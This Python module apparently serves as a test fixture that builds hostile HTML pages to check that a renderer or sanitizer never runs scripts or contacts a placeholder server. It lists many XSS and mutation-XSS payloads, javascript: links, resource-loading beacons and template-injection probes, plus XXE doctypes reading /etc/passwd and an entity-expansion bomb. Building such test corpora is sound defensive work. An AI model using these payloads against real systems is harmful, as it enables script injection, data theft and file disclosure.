"""Pages that mean harm to whoever shows them: each would run something, load something or lead somewhere, in its own way.

`HERE` stands for a server that must never be asked; a script that runs sets `window.hostile`.
"""

# ruff: noqa: E501 - what is harmful is easier to see on one line

from __future__ import annotations

from collections.abc import Iterator
from html import escape
from itertools import product

RUN = "window.hostile=1;fetch('//HERE/ran')"
WORDS = "The parks office counted 3,100 trees in the spring, which is fewer than the mayor said at the fair."

SCRIPTS = [
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT >",
    f"<script\n>{RUN}</script\n>",
    f"<script/x>{RUN}</script>",
    f"<script type=module>{RUN}</script>",
    '<script src="//HERE/script.js"></script>',
    '<script src="//HERE/script.js" async defer></script>',
    f'<script type="text/plain" language="javascript">{RUN}</script>',
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<<script>{RUN}//<</script>",
    f"<script>{RUN}",
    f"<script x=''>{RUN}<\\/script></script>",
    f"\x0c<script>{RUN}</script>",
    f"<script>//<![CDATA[\n{RUN}\n//]]></script>",
    f"<noscript><p title='</noscript><script>{RUN}</script>'></noscript>",
    '<link rel="modulepreload" href="//HERE/module.js">',
    '<script type="importmap">{"imports":{"claims/":"//HERE/"}}</script>',
    '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["//HERE/"]}]}</script>',
]

EVENTS = [
    *(f"<{tag} {on}='{RUN}'>x</{tag}>" for tag, on in (
        ("p", "onclick"), ("p", "onmouseover"), ("a", "onfocus"), ("details open", "ontoggle"), ("marquee", "onstart"),
        ("div contenteditable autofocus", "onfocus"), ("body", "onload"), ("body", "onpageshow"), ("select autofocus", "onfocus"),
        ("style", "onload"), ("p tabindex=1 autofocus", "onfocusin"), ("div style='animation:x 1s'", "onanimationstart"),
        ("div style='transition:all 1s'", "ontransitionend"), ("button popovertarget=x", "onclick"),
        ("p", "oncontentvisibilityautostatechange"), ("dialog open", "onscroll"), ("form", "onformdata"),
    )),
    *(f"<{tag} {on}={RUN.replace(' ', '/**/')}>" for tag, on in (
        ("img src=x", "onerror"), ("img/src/", "onerror"), ("input autofocus", "onfocus"), ("video src=x", "onerror"),
        ("audio src=x", "onerror"), ("source src=x", "onerror"), ("embed src=x", "onload"), ("image src=x", "onerror"),
        ("body background=//HERE/b.png", "onload"), ("frameset", "onload"), ("bgsound src=//HERE/s", "onload"),
    )),
    f'<img src="x" onerror="{RUN}" ',
    f"<img src='x' title='\"><img src=x onerror={RUN}>'>",
    f"<img src=`x` onerror={RUN}>",
    f"<a href=x onmouseover\t=\n'{RUN}'>x</a>",
    f"<input type=image src=//HERE/i.png formaction=javascript:{RUN}>",
]  # fmt: skip

VECTORS = [
    f"<svg onload='{RUN}'></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script xlink:href=data:,{RUN} /></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>x</text></a></svg>",
    f"<svg><animate onbegin='{RUN}' attributeName=x dur=1s></svg>",
    f"<svg><a><animate attributeName=href values='javascript:{RUN}'/><text>x</text></a></svg>",
    f"<svg><set attributeName=onmouseover to='{RUN}'></svg>",
    "<svg><use href='//HERE/sprite.svg#x'/></svg>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>#x\"/></svg>",
    "<svg><image href='//HERE/picture.png'/></svg>",
    "<svg><feImage href='//HERE/filter.png'/></svg>",
    "<svg><foreignObject><iframe srcdoc='&lt;script>parent.hostile=1&lt;/script>'></iframe></foreignObject></svg>",
    f"<svg><foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload='{RUN}'>x</body></foreignObject></svg>",
    "<svg><style>@import '//HERE/svg.css';</style></svg>",
    f"<math><mtext><script>{RUN}</script></mtext></math>",
    f"<math><maction actiontype='statusline#x' xlink:href='javascript:{RUN}'>x</maction></math>",
    f"<math href='javascript:{RUN}'>x</math>",
    f"<math><annotation-xml encoding='text/html'><img src=x onerror={RUN}></annotation-xml></math>",
]

LOADS = [
    "<img src=//HERE/a.png>",
    "<img srcset='//HERE/a.png 1x, //HERE/b.png 2x'>",
    "<picture><source srcset=//HERE/a.webp><img src=//HERE/a.png loading=eager></picture>",
    "<video poster=//HERE/p.png src=//HERE/v.mp4 autoplay></video>",
    "<audio src=//HERE/a.mp3 autoplay></audio><track src=//HERE/t.vtt default>",
    "<link rel=stylesheet href=//HERE/s.css>",
    "<link rel=preload as=image href=//HERE/a.png><link rel=prefetch href=//HERE/p><link rel=preconnect href=//HERE>",
    "<link rel=icon href=//HERE/i.ico><link rel=manifest href=//HERE/m.json>",
    "<style>@import url(//HERE/s.css); p{background:url(//HERE/p.png)} @font-face{font-family:x;src:url(//HERE/f)}</style>",
    "<p style='background:url(//HERE/p.png)'>x</p><p style=\"background:image-set('//HERE/q.png' 1x)\">x</p>",
    "<p style='list-style:url(//HERE/l.png);cursor:url(//HERE/c.cur),auto;border-image:url(//HERE/b.png)'>x</p>",
    "<style>input[value^=a]{background:url(//HERE/a)}</style><input value=abc>",
    "<table background=//HERE/t.png><tr><td background=//HERE/d.png>x</table>",
    "<iframe src=//HERE/frame></iframe>",
    "<iframe srcdoc='<img src=//HERE/in-frame.png>'></iframe>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    f"<iframe src='data:text/html,<script>{RUN}</script>'></iframe>",
    "<frameset><frame src=//HERE/frame></frameset>",
    "<object data=//HERE/o.swf></object><embed src=//HERE/e.swf><applet code=x codebase=//HERE/></applet>",
    "<object data='data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaG9zdGlsZT0xPC9zY3JpcHQ+'></object>",
    "<portal src=//HERE/portal></portal><fencedframe src=//HERE/fenced></fencedframe>",
    "<base href=//HERE/><img src=relative.png><a href=relative>x</a>",
    "<meta http-equiv=refresh content='0;url=//HERE/refreshed'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<meta http-equiv=Content-Security-Policy content=\"default-src *; report-uri //HERE/report\">",
    "<meta http-equiv=Set-Cookie content='sessionid=x'><meta http-equiv=origin-trial content=x>",
    "<body background=//HERE/b.png><p>x",
    "<a href=//HERE/ ping=//HERE/ping>x</a><area href=//HERE/ ping=//HERE/ping>",
    "<form action=//HERE/form><input name=x value=y autofocus><button>x</button></form>",
    f"<form><button formaction='javascript:{RUN}'>x</button><input type=submit formaction=//HERE/f></form>",
    "<isindex action=//HERE/ type=image src=//HERE/i.png><keygen>",
    "<template shadowrootmode=open><img src=//HERE/shadow.png></template>",
    "<p hx-get=//HERE/htmx hx-trigger=load hx-swap=outerHTML>x</p><div data-hx-get=//HERE/h data-hx-trigger=revealed>x</div>",
    f"<p hx-on:click='{RUN}' hx-on--load='{RUN}'>x</p>",
    "<p data-poll data-claim=x data-arrived=//HERE/arrived data-text data-copy=x data-key=a>x</p>",
    "<blockquote cite=//HERE/c>x</blockquote><img longdesc=//HERE/l usemap=#m><html manifest=//HERE/m>",
    "<xml src=//HERE/x id=i></xml><layer src=//HERE/l></layer><bgsound src=//HERE/b>",
]  # fmt: skip

LINKS = [
    *(f"<a href=\"{scheme}\">x</a>" for scheme in (
        f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f" javascript:{RUN}", f"java\tscript:{RUN}", f"java\nscript:{RUN}",
        f"&#106;avascript:{RUN}", f"&#x6A;avascript&colon;{RUN}", f"\x01javascript:{RUN}", f"javascript&#58;{RUN}",
        f"vbscript:{RUN}", f"data:text/html,<script>{RUN}</script>", "data:text/html;base64,PHNjcmlwdD4=",
        f"feed:javascript:{RUN}", f"view-source:javascript:{RUN}", f"javascript://x/%0a{RUN}", "blob:null/x",
        "intent://HERE/#Intent;end", "filesystem:http://HERE/x", f"\u2028javascript:{RUN}", f"javascript\u00a0:{RUN}",
    )),
    f"<a target=_blank href=javascript:{RUN}>x</a><a xlink:href=javascript:{RUN}>x</a>",
]  # fmt: skip

MUTATIONS = [
    f"<noscript><style></noscript><img src=x onerror={RUN}>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={RUN}&gt;">',
    f'<math><mtext><table><mglyph><style><math><table id="</table>"><img src=x onerror={RUN}">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    f'<svg></p><style><a id="</style><img src=x onerror={RUN}>">',
    f'<svg><desc><noscript></desc></noscript><style><a title="</style><img src=x onerror={RUN}>">',
    f"<a href='</a><img src=x onerror={RUN}>'>x</a>",
    f"<textarea><p title='</textarea><img src=x onerror={RUN}>'>",
    f"<title><a title='</title><img src=x onerror={RUN}>'>",
    f"<xmp><p title='</xmp><img src=x onerror={RUN}>'></xmp>",
    f"<iframe><p title='</iframe><img src=x onerror={RUN}>'></iframe>",
    f"<noembed><p title='</noembed><img src=x onerror={RUN}>'></noembed>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<!--!><img src=x onerror={RUN}>--!><img src=x onerror={RUN}>",
    f"<!-- --!><img src=x onerror={RUN}> -->",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<?xml-stylesheet href='javascript:{RUN}'?><?x ><img src=x onerror={RUN}>?>",
    f"<% <img src=x onerror={RUN}> %>",
    f"<p id=x><style>x{{font-family:'</style><img src=x onerror={RUN}>'}}",
    f"<select><template><style><!--</template></style><img src=x onerror={RUN}></select>",
    f"<table><td><select><td><img src=x onerror={RUN}></table>",
    f"<plaintext><img src=x onerror={RUN}>",
    "<form id=body><input name=cookie><input name=querySelector><img name=getElementById><a id=htmx name=config>x</a>",
    f"\ufeff<p>\u202e\u2066<script>{RUN}</script>\u2069</p>",
    f"<p>\xad<scr\xadipt>{RUN}</scr\xadipt>\u200b\ufdd0</p>",
    "<p>{{ 7 * 7 }}{% load static %}${7*7}<%= 7 * 7 %>#{7*7}</p>",
]

TYPED = [*SCRIPTS, *EVENTS, *VECTORS, *LOADS, *LINKS, *MUTATIONS]

DOCTYPES = [
    '<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE html [<!ENTITY x SYSTEM "http://HERE/entity">]>',
    '<!DOCTYPE html SYSTEM "http://HERE/own.dtd">',
    '<!DOCTYPE html [<!ENTITY % p SYSTEM "http://HERE/parameter.dtd"> %p;]>',
    '<!DOCTYPE html [<!ENTITY a "ha ha ha "><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">'
    '<!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY x "&e;&e;&e;&e;&e;&e;&e;&e;">]>',
]  # fmt: skip


def page(raw: str, here: str, *, doctype: str = "<!doctype html>") -> bytes:
    """One page: the thing itself where it works, and its spelling as words, in text, title, author and names."""
    said = escape(raw)
    return (
        f'{doctype}<html lang="en" xmlns="http://www.w3.org/1999/xhtml"><head><meta charset="utf-8"><title>{said[:300]}</title>'
        f'<meta name="author" content="{said[:100]}"><meta property="og:site_name" content="{said[:100]}">'
        f'<meta property="og:title" content="{said[:200]}"><link rel="canonical" href="{said[:200]}"></head>'
        f"<body><main><article><h1>{said[:200]}</h1><p>{WORDS}</p><p>They wrote: {said} and nothing else.</p>{raw}"
        f"<p>{WORDS} It gave no reasons for that, and &x; nobody asked.</p></article></main></body></html>"
    ).replace("HERE", here).encode("utf-8", "replace")  # fmt: skip


def pages(here: str) -> Iterator[tuple[str, bytes]]:
    """Every hostile page, with a name."""
    for number, raw in enumerate(TYPED):
        yield f"page {number}", page(raw, here)
    for number, (doctype, kind) in enumerate(product(DOCTYPES, ("", '<?xml version="1.0"?>'))):
        yield f"entities {number}", page("<p>&x;</p>", here, doctype=kind + doctype)
